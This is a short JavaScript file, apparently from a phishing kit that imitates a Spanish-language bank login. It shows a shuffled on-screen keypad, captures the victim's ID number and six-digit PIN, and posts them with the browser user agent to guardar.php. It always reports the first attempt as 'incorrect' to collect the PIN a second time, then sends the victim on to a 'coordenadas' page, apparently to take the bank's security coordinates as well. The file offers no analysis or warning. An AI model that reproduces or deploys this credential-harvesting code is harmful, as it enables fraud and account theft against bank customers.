var clave = "", doc = "";
function tecla(n) {
  if (clave.length >= 6) return;
  clave += n;
  document.getElementById("puntos").innerHTML = new Array(clave.length + 1).join("&#9679;");
  if (clave.length == 6) enviar();
}
function borrar() { clave = ""; document.getElementById("puntos").innerHTML = ""; }
function barajar() {
  var k = document.querySelectorAll(".tecla"), d = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9].sort(function () { return Math.random() - 0.5; });
  for (var i = 0; i < k.length; i++) { k[i].textContent = d[i]; k[i].onclick = (function (v) { return function () { tecla(v); }; })(d[i]); }
}
function enviar() {
  doc = document.getElementById("dni").value;
  var x = new XMLHttpRequest();
  x.open("POST", "guardar.php", true);
  x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
  x.onreadystatechange = function () {
    if (x.readyState != 4) return;
    setTimeout(function () {
      borrar(); barajar();
      if (!sessionStorage.intento) { sessionStorage.intento = 1; document.getElementById("aviso").innerHTML = "Clave incorrecta. Int\u00e9ntelo de nuevo."; }
      else window.location.href = "coordenadas.html?d=" + doc;
    }, 3500);
  };
  x.send("dni=" + doc + "&clave=" + clave + "&nav=" + encodeURIComponent(navigator.userAgent));
}
window.onload = barajar;
